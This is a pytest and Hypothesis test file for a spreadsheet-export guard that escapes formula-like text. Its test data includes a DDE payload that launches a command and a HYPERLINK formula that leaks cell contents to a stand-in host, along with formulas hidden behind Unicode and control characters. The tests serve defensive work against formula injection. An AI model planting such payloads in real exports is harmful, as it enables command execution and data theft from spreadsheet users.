import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from workbench.export import guard, unguard

FORMULAS = [
    "=cmd|'/C calc'!A1",
    '=HYPERLINK("http://example.org?leak="&A1, "more")',
    "-2+3",
    "+1+1",
    "@SUM(1;2)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM",
    "\t=1",
    "\tplain",
    "\r=1",
    "\rplain",
    "\n=1",
    "\nplain",
    "\0=1",
    "\0plain",
    " =1+1",
    "\N{NO-BREAK SPACE}=1+1",
    "\N{IDEOGRAPHIC SPACE}＝1",
    "\N{ZERO WIDTH SPACE}=1",
    "\N{ZERO WIDTH NO-BREAK SPACE}=1",
    "\N{RIGHT-TO-LEFT MARK}=1",
    "\N{SOFT HYPHEN}@SUM",
    "\N{WORD JOINER} \u202e+1",
    "\x1b=1",
    "\N{LINE SEPARATOR}=1",
    "\U000e0041=1",
    "'=1",
    "'x",
    "'",
    "-",
    "- the first item of a list",
]

PLAIN = [
    "",
    "Moscow’s special representative",
    "‘No troops’",
    '"=1+1" was what the cell said',
    "1=1",
    "a\n=1",
    "– a dash of print",
    "−5 °C",
    "|x",
    "%x",
    "  indented",
    "2025-10-08",
    "https://example.org/?a=1",
    "👍🏽 ok",
    "کابل",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_could_take_for_a_formula_gets_an_apostrophe_in_front(text):
    assert guard(text) == "'" + text


@pytest.mark.parametrize("text", PLAIN)
def test_text_that_no_spreadsheet_reckons_with_stays_as_it_is(text):
    assert guard(text) == text


HOSTILE = st.text(st.sampled_from("=+-@＝＋－＠'\"\t\r\n\0 ,;|%x\u200b\u202e\u00a0🙂ک")) | st.text()


@given(HOSTILE)
@example("''")
@example("'''=1")
@example(" '=1")
def test_the_guard_can_be_undone_whatever_the_text_is(text):
    assert unguard(guard(text)) == text


@given(HOSTILE)
def test_no_guarded_text_begins_a_formula_behind_things_spreadsheets_skip(text):
    assert guard(text).strip()[:1] not in tuple("=+-@＝＋－＠")


def test_a_million_spaces_do_not_hold_the_guard_up():
    spaces = " " * 1_000_000
    assert guard(spaces + "x") == spaces + "x"
    assert guard(spaces + "=") == "'" + spaces + "="
